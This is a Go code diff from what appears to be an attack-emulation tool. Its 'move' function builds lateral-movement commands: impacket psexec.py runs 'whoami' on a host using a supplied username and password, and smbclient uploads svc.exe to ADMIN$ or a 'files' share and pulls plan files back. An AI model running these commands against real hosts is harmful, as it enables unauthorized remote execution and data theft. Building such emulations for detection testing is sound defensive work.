@@ -132,11 +132,11 @@ func (r *Run) move(ctx context.Context, in *Host, how string) error {
 	}
 	r.against(h)
 	if how == "psexec" { // writes a program to the share, then talks to the service manager
-		r.play(ctx, in, "python3 /usr/share/doc/python3-impacket/examples/psexec.py '%s:%s@%s' whoami; python3 /usr/share/doc/python3-impacket/examples/smbclient.py '%s:%s@%s' </dev/null",
-			u.Name, u.Password, h.Addr, u.Name, u.Password, h.Addr)
+		r.play(ctx, in, "timeout 20 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/psexec.py '%s:%s@%s' whoami </dev/null", u.Name, u.Password, h.Addr)
 	}
 	for range n {
-		r.play(ctx, in, "head -c 400K /dev/urandom > svc.exe; smbclient -U '%s%%%s' //%s/files -c 'put svc.exe; ls; get plan%d.txt'", u.Name, u.Password, h.Addr, r.between(0, 19))
+		r.play(ctx, in, "smbclient -U '%s%%%s' '//%s/%s' -c 'put got svc.exe; ls'; smbclient -U '%s%%%s' //%s/files -c 'ls; get plan%d.txt'",
+			u.Name, u.Password, h.Addr, r.pick("ADMIN$", "files"), u.Name, u.Password, h.Addr, r.between(0, 19))
 		pause(ctx, r.seconds(0.3, 2))
 	}
 	return nil
